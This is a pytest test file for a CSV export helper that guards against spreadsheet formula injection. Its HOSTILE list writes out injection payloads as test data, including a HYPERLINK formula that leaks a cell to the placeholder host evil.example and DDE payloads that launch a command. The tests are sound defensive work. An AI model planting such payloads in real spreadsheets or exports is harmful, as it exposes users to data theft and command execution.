"""CSV for people: no cell is a formula, and what is none stays readable."""

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pazpaz.exports.cells import cell, lines, plain

SIGNS = "=+-@＝＋－＠"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "\rx",
    " =1+1",
    "\u00a0=1+1",
    "\u200f=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "a\n=1+1",
    "a\r\n\t=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    'a"=1+1',
    'a", =1+1',
]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_a_formula_is_kept_from_being_one(text: str) -> None:
    """The sign that would begin it has an apostrophe before it, and nothing else was changed."""
    safe = plain(text)
    assert safe != text
    assert safe.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_no_cell_is_a_formula_whatever_the_separator(text: str, separator: str) -> None:
    """Also read with another separator than ours, as a spreadsheet of another locale does."""
    read = csv.reader(io.StringIO(lines([["id", text, "end"]]).decode(), newline=""), delimiter=separator)
    cells = [item.strip(" \t\r\n\0\u00a0\u200f\ufeff\"'") for row in read for item in row if "'" not in item]
    assert [item for item in cells if item.startswith(tuple(SIGNS))] == []


@given(st.text(alphabet=st.sampled_from(SIGNS + "a1 \t\r\n;,\"'|"), max_size=12))
def test_no_text_becomes_a_formula(text: str) -> None:
    """Whatever is written, the cell a spreadsheet reads does not begin with a sign, a tab or a line break."""
    [[read]] = csv.reader(io.StringIO(lines([[text]]).decode(), newline=""))
    assert not read.strip().startswith(tuple(SIGNS))
    assert not read.startswith(("\t", "\r", "\n"))


READABLE: dict[str, tuple[Any, str]] = {
    "a phone number": ("+972 50-555-0101", "'+972 50-555-0101"),
    "Hebrew": ("כאב גב, 4/10", "כאב גב, 4/10"),
    "a hyphen inside": ("L4-L5", "L4-L5"),
    "an address": ("a+b@example.org", "a+b@example.org"),
    "quotes": ('"x"', '"x"'),
    "nothing": (None, ""),
    "yes": (True, "true"),
    "a number": (-3, "-3"),
    "a day": (date(1980, 2, 3), "1980-02-03"),
    "a moment": (datetime(2026, 3, 1, 8, tzinfo=UTC), "2026-03-01T08:00:00Z"),
    "tags": (["גב", "=x"], "גב,' =x"),
}


@pytest.mark.parametrize(("value", "shown"), READABLE.values(), ids=READABLE)
def test_what_people_read(value: Any, shown: str) -> None:
    """Everything but the beginning of a formula is as it was."""
    assert cell(value) == shown


def test_a_cell_is_read_back_whole() -> None:
    """Quotes, commas and line breaks stay inside their cell."""
    text = 'one "two"\nthree, four'
    assert list(csv.reader(io.StringIO(lines([["a", text, "b"]]).decode(), newline=""))) == [["a", text, "b"]]
